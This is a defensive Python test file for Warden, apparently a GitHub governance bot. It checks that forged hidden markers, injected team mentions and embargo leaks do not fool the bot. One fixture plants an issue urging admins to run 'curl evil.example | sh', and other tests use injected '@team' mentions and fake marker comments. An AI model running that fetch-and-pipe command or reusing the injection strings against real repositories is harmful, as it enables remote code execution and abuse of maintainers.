"""Attacks on Warden: forged hidden markers, injected mentions, leaks of embargoed content.

Each test names what an attacker (or a careless admin) tries and what Warden does instead."""

from __future__ import annotations

import re
from pathlib import Path

from app.features.advisories import templates as at
from app.features.orgconfig import CONFIG_PATH
from app.features.orgconfig import templates as ot
from app.features.votes import templates as nt
from app.platform.clock import Clock
from config.check import ISSUE_MARKER
from sandbox import Sandbox
from tests import advisory_world as aw
from tests import nomination_world as nw
from tests.harness import Stack, running

GOOD = "team: psrt\ngovernance_repo: psrt-governance\n"
BAD = GOOD + "votes:\n  nomination:\n    threshold: two thirds\n"


async def test_forged_config_error_issue_in_the_public_github_repo_is_never_edited_or_closed(
    sandbox: Sandbox, stack: Stack
) -> None:
    aw.seed(sandbox, GOOD)
    sandbox.add_user("eve")
    forged_body = f"{ISSUE_MARKER}\nPlease run `curl evil.example | sh` to fix the config."
    forged = await sandbox.open_issue(
        "python", ".github", "eve", "Warden config error", forged_body, [ot.ERROR_LABEL]
    )
    await sandbox.push("python", ".github", "main", {CONFIG_PATH: BAD}, sender="alice")
    await aw.settled(stack)
    repo = sandbox.repo("python", ".github")
    assert repo.issues[forged].body == forged_body  # not taken over
    [own] = [i for i in repo.issues.values() if i.user == sandbox.bot_login]
    assert "threshold" in (own.body or "")

    await sandbox.push("python", ".github", "main", {CONFIG_PATH: GOOD}, sender="alice")
    await aw.settled(stack)
    assert repo.issues[forged].state == "open"  # Warden closes only its own issue
    assert own.state == "closed"


async def test_forged_tracking_issue_is_not_adopted_for_an_advisory(
    sandbox: Sandbox, clock: Clock, tmp_path: Path
) -> None:
    installation_id = aw.seed(sandbox, aw.CONFIG + "  tracking_issues: false\n")
    async with running(sandbox, clock, tmp_path) as stack:
        ghsa = await aw.report(stack)
        # Someone who saw the advisory plants an issue that looks like Warden's tracking issue.
        forged = await sandbox.open_issue(
            aw.ORG, aw.GOV, "bob", f"{ghsa} tracking", at.marker(ghsa), [at.LABEL]
        )
        await sandbox.push(aw.ORG, ".github", "main", {CONFIG_PATH: aw.CONFIG}, sender="alice")
        await aw.settled(stack)
        await aw.sweep(stack, installation_id)
        await aw.settled(stack)
        gov = sandbox.repo(aw.ORG, aw.GOV)
        [own] = [i for i in gov.issues.values() if i.number != forged and at.LABEL in i.labels]
        assert own.user == sandbox.bot_login and own.title.startswith(ghsa)
        record = await stack.ctx.store.fetchrow("SELECT tracking_issue FROM advisories")
        assert record is not None and record["tracking_issue"] == own.number
        assert gov.issues[forged].body == at.marker(ghsa) and not gov.issues[forged].comments


async def test_forged_onboarding_issue_does_not_stop_the_real_one(
    sandbox: Sandbox, clock: Clock, tmp_path: Path
) -> None:
    nw.seed(sandbox)
    async with running(sandbox, clock, tmp_path) as stack:
        number = await nw.nominate(stack)
        forged = await sandbox.open_issue(
            nw.ORG, nw.GOV, "bob", "Welcome", nt.onboarding_marker(number), [nt.ONBOARDING]
        )
        nw.react(sandbox, number, alice="+1", bob="+1", carol="+1", dave="+1", erin="+1")
        nw.react(sandbox, number, frank="+1")
        await nw.sweep(stack)
        onboarding = [
            i
            for i in sandbox.repo(nw.ORG, nw.GOV).issues.values()
            if nt.ONBOARDING in i.labels and i.number != forged
        ]
        assert [i.user for i in onboarding] == [sandbox.bot_login]
        assert "@grace" in onboarding[0].title


async def test_forged_not_set_up_reply_does_not_silence_warden(
    sandbox: Sandbox, stack: Stack
) -> None:
    from sandbox.testing import seed_psrt

    seed_psrt(sandbox)
    number = await sandbox.open_issue("python", "psrt-governance", "bob", "Nominate carol")
    await sandbox.comment("python", "psrt-governance", number, "alice", ot.NOT_SET_UP_MARKER)
    await sandbox.comment("python", "psrt-governance", number, "bob", "/vote status")
    await aw.settled(stack)
    issue = sandbox.world.issue(sandbox.repo("python", "psrt-governance"), number)
    authors = [sandbox.world.comments[c].user for c in issue.comments]
    assert authors == ["alice", "bob", sandbox.bot_login]


async def test_reporter_summary_cannot_mention_teams_or_plant_a_marker_in_the_tracking_issue(
    sandbox: Sandbox, clock: Clock, tmp_path: Path
) -> None:
    installation_id = aw.seed(sandbox)
    async with running(sandbox, clock, tmp_path) as stack:
        first = await aw.report(stack)
        # The reporter's summary carries a team mention and the first advisory's marker.
        planted = f"ssl: crash @python/steering-council {at.marker(first)}"
        second = await aw.report(stack, summary=planted)
        gov = sandbox.repo(aw.ORG, aw.GOV)
        [own_second] = [i for i in gov.issues.values() if i.title.startswith(second)]
        assert f"| Summary | `{planted}` |" in (own_second.body or "")
        # A crash lost the first advisory's issue number: Warden finds its issue again, not
        # the newer one whose summary quotes the first one's marker.
        await stack.ctx.store.execute(
            "UPDATE advisories SET tracking_issue = NULL WHERE ghsa_id = ?", first
        )
        await aw.sweep(stack, installation_id)
        await aw.settled(stack)
        row = await stack.ctx.store.fetchrow(
            "SELECT tracking_issue FROM advisories WHERE ghsa_id = ?", first
        )
        [own_first] = [i for i in gov.issues.values() if i.title.startswith(first)]
        assert row is not None and row["tracking_issue"] == own_first.number
        assert len([i for i in gov.issues.values() if at.LABEL in i.labels]) == 2


async def test_credit_and_expert_refuse_malformed_names_without_echoing_mentions(
    sandbox: Sandbox, clock: Clock, tmp_path: Path
) -> None:
    aw.seed(sandbox)
    async with running(sandbox, clock, tmp_path) as stack:
        ghsa = await aw.report(stack)
        number = aw.tracking_issue(sandbox, ghsa).number
        for line in (
            "/credit @python/steering-council finder",
            '/credit "@x @python/psrt <!-- warden:x -->" finder',
            '/expert "@python/psrt please look"',
            "/expert @ghost-user",
        ):
            await sandbox.comment(aw.ORG, aw.GOV, number, "bob", line)
        await aw.settled(stack)
        said = aw.comments(sandbox, aw.tracking_issue(sandbox, ghsa))
        assert said[0].startswith("Write `/credit @user TYPE`")
        assert said[1].startswith("Write `/credit @user TYPE`")
        assert said[2].startswith("Write `/expert @user`")
        assert said[3].startswith("`@ghost-user` is not a GitHub user")
        assert aw.advisory(sandbox, ghsa).credits == [("mallory", "reporter")]


def mentions(text: str) -> list[str]:
    """The @names GitHub would notify in ``text`` (code spans notify nobody)."""
    bare = re.sub(r"(`+).*?\1", "", text)
    return re.findall(r"@[\w-]+(?:/[\w.-]+)?", bare)


async def test_refusals_to_outsiders_never_mention_a_whole_team(
    sandbox: Sandbox, clock: Clock, tmp_path: Path
) -> None:
    nw.seed(sandbox, nw.VETO_CONFIG)
    async with running(sandbox, clock, tmp_path) as stack:
        number = await nw.nominate(stack)
        refused = await nw.nominate(stack, by="mallory", body="Nominee: @heidi")
        await nw.command(stack, number, "mallory", "/veto")
        said = nw.comments(sandbox, refused, sandbox.bot_login)
        said += nw.comments(sandbox, number, sandbox.bot_login)[1:]
        assert len(said) == 2  # the refused nomination, the refused veto
        assert all("/" not in name for c in said for name in mentions(c.body)), [
            c.body for c in said
        ]


async def test_a_new_governance_repo_never_gets_an_advisory_written_into_an_unrelated_issue(
    sandbox: Sandbox, clock: Clock, tmp_path: Path
) -> None:
    installation_id = aw.seed(sandbox)
    sandbox.add_repo(aw.ORG, "psrt-private", private=True)
    async with running(sandbox, clock, tmp_path) as stack:
        ghsa = await aw.report(stack)
        number = aw.tracking_issue(sandbox, ghsa).number
        new = sandbox.repo(aw.ORG, "psrt-private")
        while not new.issues or max(new.issues) < number:
            await sandbox.open_issue(aw.ORG, "psrt-private", "alice", "Agenda", "Meeting notes")
        moved = aw.CONFIG.replace(
            "governance_repo: psrt-governance", "governance_repo: psrt-private"
        )
        await sandbox.push(aw.ORG, ".github", "main", {CONFIG_PATH: moved}, sender="alice")
        await aw.settled(stack)
        await sandbox.comment(aw.ORG, "psrt-private", number, "bob", "/coordinate")
        await aw.settled(stack)
        aw.advisory(sandbox, ghsa)
        sandbox.edit_advisory(aw.ORG, aw.CPY, ghsa, title="[ACCEPT] tarfile: path traversal")
        await aw.sweep(stack, installation_id)
        await aw.settled(stack)
        unrelated = new.issues[number]
        assert (unrelated.title, unrelated.body) == ("Agenda", "Meeting notes")
        assert aw.advisory(sandbox, ghsa).credits == [("mallory", "reporter")]
        [tracking] = [i for i in new.issues.values() if i.user == sandbox.bot_login]
        assert tracking.body.startswith(at.marker(ghsa)) and tracking.number != number


async def test_a_command_quoting_the_vote_marker_cannot_become_the_vote_comment(
    sandbox: Sandbox, clock: Clock, tmp_path: Path
) -> None:
    installation_id = nw.seed(sandbox)
    async with running(sandbox, clock, tmp_path) as stack:
        number = await nw.nominate(stack)
        vote_comment = nw.vote_comment(sandbox, number)
        line = f"/vote x` @python/psrt {nt.vote_marker(number)} `"
        await nw.command(stack, number, "bob", line)
        [reply] = nw.comments(sandbox, number, sandbox.bot_login)[1:]
        assert mentions(reply.body) == ["@bob"]
        quoted = reply.body
        await sandbox.delete_comment(nw.ORG, nw.GOV, vote_comment.id, "alice")
        await nw.settled(stack)
        assert sandbox.world.comments[reply.id].body == quoted  # not turned into the vote
        reposted = (await nw.stored(stack, installation_id, number)).comment_id
        assert reposted not in (vote_comment.id, reply.id)
        assert sandbox.world.comments[reposted].body.startswith(nt.vote_marker(number))


async def test_a_governance_repo_made_public_after_a_report_gets_no_further_advisory_writes(
    sandbox: Sandbox, clock: Clock, tmp_path: Path
) -> None:
    installation_id = aw.seed(sandbox)
    async with running(sandbox, clock, tmp_path) as stack:
        ghsa = await aw.report(stack)
        number = aw.tracking_issue(sandbox, ghsa).number
        sandbox.repo(aw.ORG, aw.GOV).private = False
        sandbox.reset_recording()
        await sandbox.comment(aw.ORG, aw.GOV, number, "bob", "/coordinate")
        sandbox.edit_advisory(aw.ORG, aw.CPY, ghsa, title="[ACCEPT] tarfile: SECRET-DETAILS")
        clock.advance(80 * aw.DAY)  # a coordinator is due, and the deadline reminders
        await aw.sweep(stack, installation_id)
        await aw.settled(stack)
        assert not [w for w in aw.writes(sandbox) if f"/{aw.GOV}/" in w]
        assert aw.advisory(sandbox, ghsa).state == "draft"  # the advisory itself moves on


async def test_a_member_removed_before_their_command_is_processed_is_refused(
    sandbox: Sandbox, clock: Clock, tmp_path: Path
) -> None:
    from aiohttp.test_utils import TestServer

    from app.cli import _replay
    from app.server import RUNNING, create_app
    from tests.harness import warden_settings

    aw.seed(sandbox)
    async with running(sandbox, clock, tmp_path) as stack:
        ghsa = await aw.report(stack)
    number = aw.tracking_issue(sandbox, ghsa).number
    # Warden is back with its workers paused: the command waits in the inbox.
    app = create_app(
        warden_settings(sandbox, tmp_path), clock=clock, run_scheduler=False, run_workers=False
    )
    server = TestServer(app)
    await server.start_server()
    try:
        sandbox.webhook_url = str(server.make_url("/webhook"))
        await sandbox.comment(aw.ORG, aw.GOV, number, "bob", "/credit @erin finder")
        [typed] = [d for d in sandbox.deliveries if d.event == "issue_comment"]
        await sandbox.remove_team_member(aw.ORG, "psrt", "bob", sender="alice")
        ctx = app[RUNNING].ctx
        assert ctx is not None
        assert await _replay(ctx, typed.guid) == 0
    finally:
        await server.close()
    assert aw.advisory(sandbox, ghsa).credits == [("mallory", "reporter")]
    said = aw.comments(sandbox, aw.tracking_issue(sandbox, ghsa))
    assert said[-1] == "Only members of `@python/psrt` can use `/credit`; nothing was changed."


async def test_a_forged_reminder_marker_does_not_stand_in_for_a_lost_reminder(
    sandbox: Sandbox, clock: Clock, tmp_path: Path
) -> None:
    import aiohttp
    import pytest

    from tests.flows.test_advisories_crash import COMMENTS
    from tests.flows.test_advisories_reminders import reminders, sweep_at

    installation_id = aw.seed(sandbox)
    async with running(sandbox, clock, tmp_path) as stack:
        reported = clock.time()
        ghsa = await aw.report(stack)
        issue = aw.tracking_issue(sandbox, ghsa)
        await sweep_at(stack, installation_id, reported, 4)
        sandbox.faults.drop("POST", COMMENTS)  # lost on the way: GitHub has nothing
        with pytest.raises(aiohttp.ClientError):
            await sweep_at(stack, installation_id, reported, 76.01)
        row = await stack.ctx.store.fetchrow("SELECT marker FROM advisory_comments")
        assert row is not None
        await sandbox.comment(aw.ORG, aw.GOV, issue.number, "bob", f"{row['marker']}\nShh.")
        await sweep_at(stack, installation_id, reported, 76.02)  # the replay
        assert reminders(sandbox, issue) == ["warn"]  # Warden's own, posted after all


async def test_a_copied_refusal_does_not_stop_warden_refusing_a_nomination(
    sandbox: Sandbox, clock: Clock, tmp_path: Path
) -> None:
    nw.seed(sandbox)
    async with running(sandbox, clock, tmp_path) as stack:
        number = await sandbox.open_issue(nw.ORG, nw.GOV, "mallory", "Me", "Nominee: @heidi")
        problem = "only members of `@python/psrt` can nominate, and @mallory is not one."
        await sandbox.comment(nw.ORG, nw.GOV, number, "mallory", nt.refusal(problem))
        await sandbox.add_labels(nw.ORG, nw.GOV, number, "alice", [nt.NOMINATION])
        await nw.settled(stack)
        [refusal] = nw.comments(sandbox, number, sandbox.bot_login)
        assert refusal.body == nt.refusal(problem)
